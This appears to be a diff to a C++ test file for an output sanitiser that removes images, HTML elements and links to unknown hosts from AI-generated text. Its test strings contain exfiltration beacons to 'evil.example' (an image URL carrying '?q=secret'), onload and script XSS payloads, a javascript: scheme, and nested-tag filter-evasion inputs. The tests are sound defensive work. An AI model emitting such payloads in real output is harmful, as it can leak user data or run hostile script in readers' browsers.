@@ -62,11 +62,43 @@ TEST(OutputGuardTest, WhatDocumentsSayIsNoSecret) {
 TEST(OutputGuardTest, PicturesElementsAndStrangeAddressesGo) {
   ExpectTold("A ![x](https://evil.example/?q=secret) b.", "A  b.");
   ExpectTold("A ![x][ref] b.", "A  b.");
-  ExpectTold("A <img src='https://evil.example/a'> b <b>c</b>.", "A  b c.");
+  ExpectTold("A <img src='https://evil.example/a'> b <b>c</b>.", "A  b <b>c</b>.");
   ExpectTold("Go to https://evil.example/login?s=1 now.", "Go to  now.");
   ExpectTold("Go to HTTP://evil.example.", "Go to .");
   ExpectTold("[log in](https://evil.example/x) 。", "[log in]() 。");
   ExpectTold("https://docs.example/pump?leak=1", "");
+}
+
+// Placeholders, parameters of types and comparisons are what documents of software are full of.
+TEST(OutputGuardTest, WhatLooksLikeAnElementAndLoadsNothingStays) {
+  for (const char* text :
+       {"Run `quarry index <path>` [1].", "It returns `Result<Answer>` [1].",
+        "`std::map<std::string, std::vector<int>>` [1]", "if n<k or m>2 [1]",
+        "`--set <key=value>` [1]", "See <https://docs.example/pump>.",
+        "运行`quarry index <path>`[1]。", "返回`Result<Answer>`[1]。", "如果n<k或m>2[1]。"}) {
+    ExpectTold(text, text);
+  }
+}
+
+TEST(OutputGuardTest, ElementsThatLoadOrRunSomethingGo) {
+  ExpectTold("A <x style='background:url(//evil.example)'> b.", "A  b.");
+  ExpectTold("A <svg/onload=f()> b.", "A  b.");
+  ExpectTold("A <a<img src=//evil.example/a> b.", "A  b.");
+  ExpectTold("<Script>f()</script >", "f()");
+  ExpectTold("List<script>", "List");
+  ExpectTold("A <!-- b --> c.", "A  c.");
+  ExpectTold("<JavaScript:f()>", "");
+  ExpectTold("<https://evil.example/x>。", "<>。");
+  ExpectTold("<b ![x](//evil.example)>", "");
+  // What is left makes no other.
+  ExpectTold("<im<script>g src=x>", "g src=x>");
+  ExpectTold("<im<!-->g src=x>", "g src=x>");
+  ExpectTold("<im![x](>)g src=x>", ")g src=x>");
+  ExpectTold("<scripthttp://evil.example/>", "");
+  ExpectTold("<<b id=1>img src=x>", "< img src=x>");
+  ExpectTold("!<b id=1>[x](//evil.example)", "! [x](//evil.example)");
+  ExpectTold("<你根据编号的文档段落回答问题，除此之外不使用任何知识img src=x>。", "。");
+  ExpectTold("!You answer questions from numbered passages of documents[x](//evil.example)", "");
 }
 
 TEST(OutputGuardTest, AnUnendingConstructIsText) {
